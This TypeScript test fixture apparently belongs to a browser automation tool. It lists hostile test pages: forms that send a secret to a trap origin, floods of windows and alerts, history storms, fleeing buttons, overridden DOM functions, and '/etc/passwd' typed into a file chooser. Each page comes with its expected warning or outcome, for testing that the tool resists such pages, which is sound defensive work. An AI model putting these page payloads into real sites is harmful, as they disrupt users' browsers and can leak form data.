import type { Action } from "../../../../src/core/domain/options/Action.ts"

/** A page that fights back when it is clicked, and the outcome. */
export interface Attack {
  readonly html: (trap: string) => string
  readonly actions?: ReadonlyArray<Action>
  /** Of the warning. */
  readonly why?: RegExp
  /** The text that is still there. */
  readonly shows?: string
  /** It takes all of the time of a page. */
  readonly hangs?: true
}

export const click: ReadonlyArray<Action> = [{ click: "#b" }]
export const button = (onclick: string) => `<button id=b onclick="${onclick}">go</button><p>still here</p>`

/** Attacks that end with the page as it was, or with a warning. None of them sends a request to the trap. */
export const attacks: Readonly<Record<string, Attack>> = {
  "a form that is sent to another origin": {
    html: (trap) =>
      `<form action="${trap}/get"><input name=q value=secret><button id=b>go</button></form><p>still here</p>`,
    why: /another origin .*never done/
  },
  "a form that is posted to another origin": {
    html: (trap) => `<form method=post action="${trap}/post"><button id=b>go</button></form><p>still here</p>`,
    why: /another origin/
  },
  "a formaction of another origin": {
    html: (trap) =>
      `<form method=post action="/ok"><button id=b formaction="${trap}/post">go</button></form><p>still here</p>`,
    why: /another origin/
  },
  "a form that a script sends": {
    html: (trap) =>
      `<form id=f method=post action="/ok"></form>${
        button(`f.action='${trap}/x';HTMLFormElement.prototype.submit.call(f)`)
      }`,
    why: /another origin/
  },
  "a form into another window": {
    html: (trap) => `<form target=_blank action="${trap}/w"><button id=b>go</button></form><p>still here</p>`
  },
  "a form into a frame": {
    html: (trap) =>
      `<iframe name=inner></iframe><form target=inner method=post action="${trap}/w"><button id=b>go</button></form><p>still here</p>`
  },
  "a redirect of a posted form": {
    html: () => `<form method=post action="/leave"><button id=b>go</button></form><p>still here</p>`
  },
  ...Object.fromEntries([300, 302, 306, 520, 999].map((status) => [`a form of a page with the status ${status}`, {
    html: () => `<a id=b href="/odd?${status}">go</a>`,
    actions: [...click, { click: "#c" }],
    why: /another origin/
  }])),
  "a link to a private address": {
    html: (trap) => `<a id=b href="${trap}/a">go</a><p>still here</p>`,
    why: /could not load the page/
  },
  "a link to a private address in a new window": {
    html: (trap) => `<a id=b target=_blank href="${trap}/a">go</a><p>still here</p>`
  },
  "a thousand windows": {
    html: (trap) =>
      button(
        `for (let i = 0; i < 1000; i++) { window.open('${trap}/' + i); frames.open && frames.open('${trap}/f' + i) }`
      )
  },
  "windows opened by a clean frame": {
    html: (trap) =>
      `<iframe id=f></iframe>${
        button(
          `f.contentWindow.open('${trap}/x'); f.contentDocument.body.innerHTML='<a target=_blank href=${trap}/y>';f.contentDocument.querySelector('a').click()`
        )
      }`
  },
  "a download": { html: () => `<a id=b href="/file" >go</a><p>still here</p>`, why: /not a page/ },
  "a download of its own making": {
    html: () => `<a id=b download=x.txt href="data:text/plain,hi">go</a><p>still here</p>`
  },
  "a data: page": { html: () => button("location='data:text/html,gone'") },
  "a chooser of files": {
    html: () => `<input id=b type=file><p>still here</p>`,
    why: /files are never uploaded/
  },
  "a chooser of files behind a label": {
    html: () => `<label id=b>go<input type=file hidden></label><p>still here</p>`,
    why: /files are never uploaded/
  },
  "text for a file": {
    html: () => `<input id=b type=file><p>still here</p>`,
    actions: [{ type: ["#b", "/etc/passwd"] }],
    why: /files are never uploaded/
  },
  "writing to the clipboard": {
    html: () =>
      `<p id=out></p>${
        button(
          "out.textContent = 'text'; getSelection().selectAllChildren(out); const copied = document.execCommand('copy'); const cut = Document.prototype.execCommand.call(document, { toString: () => 'Cut' }); "
            + "navigator.clipboard.writeText('x').then(() => 'written', () => 'refused').then((text) => { out.textContent = [copied, cut, document.featurePolicy.allowsFeature('clipboard-write'), text] })"
        )
      }`,
    shows: "false,false,false,refused"
  },
  "a loop of alerts": { html: () => button("for (let i = 0; i < 500; i++) alert(i); confirm(1); prompt(2)") },
  "a question before it is left": {
    html: () =>
      `<script>onbeforeunload = (event) => { event.preventDefault(); return 'stay' }</script><a id=b href="/next">go</a>`,
    shows: "the next page"
  },
  "a link to a page that never answers": {
    html: () => `<a id=b href="/never">go</a><p>still here</p>`,
    why: /the page that it leads to did not arrive in time/,
    hangs: true
  },
  "a page that always leaves for one that never answers": {
    html: () => `${button("setInterval(() => { location = '/never' }, 300)")}`
  },
  "a storm of history": {
    html: () => button("for (let i = 0; i < 5000; i++) try { history.pushState(i, '', '?' + i) } catch { break }")
  },
  "a button that always moves": {
    html: () =>
      `${
        button("document.body.textContent='clicked'")
      }<script>setInterval(() => { b.style.position='fixed'; b.style.left=Math.random()*900+'px'; b.style.top=Math.random()*900+'px' }, 8)</script>`,
    why: /does not stand still|moves away|covered|failed/
  },
  "a button that flees from the pointer": {
    html: () =>
      `<div style="position:relative">${button("document.body.textContent='clicked'")}</div><script>
      let n = 0; b.style.position = "relative"; b.onmouseover = () => { b.style.left = (++n % 2) * 300 + "px" }</script>`,
    why: /moves away|stand still|covered/
  },
  "a cover that follows": {
    html: () => `${button("")}<div id=cover class="wall of glass" style="position:fixed;inset:0"></div>`,
    why: /covered by <div id="cover" class="wall of glass">/
  },
  "an element that is not there": {
    html: () => button(""),
    actions: [{ click: "#nothing" }],
    why: /no element matches/
  },
  "an element that nobody sees": {
    html: () => `<button id=b hidden>go</button><p>still here</p>`,
    why: /not visible/
  },
  "an option that is not there": {
    html: () => `<select id=b><option>1</option></select><p>still here</p>`,
    actions: [{ select: ["#b", "2"] }],
    why: /no option has this value/
  },
  "a page that removes itself": { html: () => button("document.documentElement.remove()"), shows: "" },
  "a page that writes itself anew": {
    html: () => button("document.open();document.write('<p>rewritten</p>');document.close()"),
    shows: "rewritten"
  },
  "functions of the page's own": {
    html: () =>
      `<script>for (const name of ["elementFromPoint", "querySelectorAll", "querySelector", "createElement"]) Document.prototype[name] = () => { throw new Error("mine") }
      Element.prototype.getBoundingClientRect = () => { throw 1 }; window.requestAnimationFrame = () => 0; window.setTimeout = () => 0; window.Promise = null</script>${
        button("b.textContent='was clicked'")
      }`,
    shows: "was clicked"
  },
  "a list without an end": {
    html: () =>
      `<div id=l></div><script>let n = 0; const add = () => { for (let i = 0; i < 20; i++) l.insertAdjacentHTML('beforeend', '<p style=height:50px>still here ' + ++n + '</p>') }; add(); add(); onscroll = add</script>`,
    actions: [{ scroll_until: { max: 100 } }],
    hangs: true
  }
}

/** One of each way to harm: to leave, to open, to ask, to hold up, and to change the tools of the page. */
export const examples = new Set([
  "a page that always leaves for one that never answers",
  "a button that always moves",
  "a loop of alerts",
  "windows opened by a clean frame"
])
